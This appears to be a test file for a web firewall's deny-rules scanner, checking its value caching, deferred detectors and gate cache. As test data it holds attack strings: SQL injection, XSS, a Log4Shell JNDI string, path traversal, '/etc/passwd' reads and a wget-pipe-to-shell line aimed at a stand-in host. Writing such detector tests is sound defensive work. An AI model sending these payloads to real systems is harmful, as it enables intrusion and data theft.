import { scanValue, valuesScanned, hits, detectorsPending, scanDetectors, dropDetectors, setGateCache } from "./scan";
import { setMemoEnabled } from "./memo";
import { RULE_ID } from "../rules/generated";
import { engineFor } from "./engine";
import { memoHits, refHits } from "./memo";
import { DenyRulesSettings, dataTypeOf } from "../config/deny_rules";
import { Source } from "../parse/items";

function settings(): DenyRulesSettings {
  let s = new DenyRulesSettings();
  s.resolve();
  s.engine = engineFor(s.maxLevel, s.keyMask).engine;
  return s;
}

describe("scanValue and the clean-value cache", () => {
  it("scans a value once, then answers an equal value from the content cache and the same object from the identity cache", () => {
    let s = settings();
    let e = s.engine!;
    let type = dataTypeOf(Source.Json);
    let a = "leather " + "boots 42"; // made at run time: its own object
    let b = "leather boots" + " 42";  // equal content, another object
    let scanned = valuesScanned, memo = memoHits, ref = refHits;
    expect(scanValue(s, e, a, null, Source.Json, type, "")).toBe(0);
    expect(valuesScanned).toBe(scanned + 1);
    expect(scanValue(s, e, b, null, Source.Json, type, "")).toBe(0);
    expect(valuesScanned).toBe(scanned + 1);
    expect(memoHits).toBe(memo + 1);
    expect(scanValue(s, e, b, null, Source.Json, type, "")).toBe(0);
    expect(refHits).toBe(ref + 1);
    // Another header name is another key.
    expect(scanValue(s, e, a, null, Source.Header, dataTypeOf(Source.Header), "x-note")).toBe(0);
    expect(valuesScanned).toBe(scanned + 2);
  });

  it("never answers an attack from the cache", () => {
    let s = settings();
    let e = s.engine!;
    let type = dataTypeOf(Source.Json);
    let attack = "1' UNION SELECT password FROM users--";
    expect(scanValue(s, e, attack, null, Source.Json, type, "")).toBeGreaterThan(0);
    expect(scanValue(s, e, "1' UNION SELECT " + "password FROM users--", null, Source.Json, type, "")).toBeGreaterThan(0);
  });
});

// The hits of the last scan, in order, as "rule@level".
function hitList(): Array<string> {
  let out = new Array<string>();
  for (let k = 0; k < hits.count; k++) out.push(RULE_ID[hits.rules[k]] + "@" + hits.levels[k].toString());
  return out;
}

describe("scanValue with the detectors deferred", () => {
  it("gives the pattern hits, then the detector hits: together the hits of one full scan, in order", () => {
    let s = settings();
    let e = s.engine!;
    let values = [
      "1' UNION SELECT username, password FROM users--", "<script>alert(document.cookie)</script>",
      "x; cat /etc/passwd", "5 OR 1=1", "admin'--", "{{7*7}}", "javascript:alert(1)", "${jndi:ldap://e/a}",
      "../../etc/passwd", "leather boots 42", "<img src=x onerror=alert(1)>", "|| wget http://e/x.sh -O-|sh",
    ];
    let locations = [Source.Query, Source.Json, Source.Header, Source.Cookie, Source.Path];
    let deferred = 0;
    for (let l = 0; l < locations.length; l++) {
      let loc = locations[l];
      let type = dataTypeOf(loc);
      let header = loc == Source.Header ? "referer" : "";
      for (let i = 0; i < values.length; i++) {
        // Fresh objects each time, so no cache answers.
        let v = values[i] + "";
        v = v.substring(0);
        scanValue(s, e, v + " ", null, loc, type, header);
        let full = hitList();
        let n = scanValue(s, e, v + " ", null, loc, type, header, true);
        let first = hitList();
        expect(n).toBe(first.length);
        if (detectorsPending) {
          deferred++;
          expect(first.length).toBeGreaterThan(0);
          scanDetectors(type);
          expect(detectorsPending).toBe(false);
          let rest = hitList();
          for (let k = 0; k < rest.length; k++) first.push(rest[k]);
        }
        expect(first.join(",")).toBe(full.join(","), values[i]);
      }
    }
    expect(deferred).toBeGreaterThan(10);
  });

  it("defers nothing when no pattern hits, and dropping deferred detectors leaves no state", () => {
    let s = settings();
    let e = s.engine!;
    let type = dataTypeOf(Source.Query);
    expect(scanValue(s, e, "plain words " + "only", null, Source.Query, type, "", true)).toBe(0);
    expect(detectorsPending).toBe(false);
    scanValue(s, e, "1' UNION SELECT a FROM b-" + "-", null, Source.Query, type, "", true);
    expect(detectorsPending).toBe(true);
    dropDetectors();
    expect(detectorsPending).toBe(false);
    expect(scanDetectors(type)).toBe(0);
  });
});

// The hits of one scan of `v`, with the gate cache on or off.
function hitsWithGateCache(s: DenyRulesSettings, v: string, loc: Source, type: i32, on: bool): string {
  setGateCache(on);
  scanValue(s, s.engine!, v, null, loc, type, "");
  setGateCache(true);
  return hitList().join(",");
}

describe("the gate cache", () => {
  it("runs the same groups and detectors as computing the gates for every value", () => {
    let s = settings();
    let e = s.engine!;
    setMemoEnabled(false);
    let values = [
      "117", "69.6", "SKU-59712", "black jacket 68", "Item number 4 in jacket", "ada@example.com",
      "https://shop.example.com/p/1?ref=road", "1' UNION SELECT a FROM b--", "<b onmouseover=alert(1)>", "x; cat /etc/passwd",
      "a%27%20or%201%3D1", "&lt;script&gt;", "a+b+c", "TAB\there", "ÄÖÜ café", "../../etc/passwd", "5 OR 1=1", "{{7*7}}",
      "${jndi:ldap://e/a}", "", "Mixed CASE words", "a\u0000b",
    ];
    let locations = [Source.Query, Source.Post, Source.Json, Source.Cookie, Source.Path, Source.PathSegment, Source.GraphQL];
    let compared = 0;
    for (let pass = 0; pass < 3; pass++) {
      for (let l = 0; l < locations.length; l++) {
        let loc = locations[l];
        let type = dataTypeOf(loc);
        for (let i = 0; i < values.length; i++) {
          let v = values[i];
          expect(hitsWithGateCache(s, v, loc, type, true)).toBe(hitsWithGateCache(s, v, loc, type, false), v);
          compared++;
          // With the detectors off (bench): the key tells the two apart.
          e.rules.runDetectors = false;
          expect(hitsWithGateCache(s, v, loc, type, true)).toBe(hitsWithGateCache(s, v, loc, type, false), v);
          e.rules.runDetectors = true;
        }
      }
    }
    setMemoEnabled(true);
    expect(compared).toBe(3 * 7 * 22);
  });
});
